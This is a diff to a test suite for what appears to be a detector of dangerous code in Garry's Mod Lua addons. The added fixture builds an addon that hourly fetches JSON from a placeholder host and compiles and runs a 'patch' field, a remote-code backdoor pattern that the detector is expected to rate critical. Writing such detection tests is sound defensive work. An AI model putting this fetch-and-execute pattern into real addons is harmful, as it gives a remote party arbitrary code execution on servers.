@@ -75,6 +75,28 @@ describe('runstring', () => {
     });
     expect(findings).toEqual([]);
   });
+  it("a helper's web reply handed to the callback it is given, which compiles a field", () => {
+    // The helper also runs alone with an unknown callback first: the closure it hands
+    // http.Fetch then holds another `cb`, and its run must not stand for this one.
+    const findings = check(rule, {
+      'lua/addon/sv_net.lua': [
+        'Addon = Addon or {}',
+        'function Addon.GetJSON(url, cb)',
+        '  http.Fetch(url, function(body) local t = util.JSONToTable(body) if t then cb(t) end end)',
+        'end',
+        'function Addon.Apply(t)',
+        '  if isstring(t.patch) then local f = CompileString(t.patch, "patch", false) if f then f() end end',
+        'end',
+      ].join('\n'),
+      'lua/addon/sv_check.lua': [
+        'local function check() Addon.GetJSON("https://a.invalid/release", Addon.Apply) end',
+        'hook.Add("InitPostEntity", "check", function() timer.Create("check", 3600, 0, check) end)',
+      ].join('\n'),
+      'lua/autorun/server/sv_init.lua':
+        'include("addon/sv_net.lua")\ninclude("addon/sv_check.lua")',
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
   it('a download of character codes, made into code', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua':
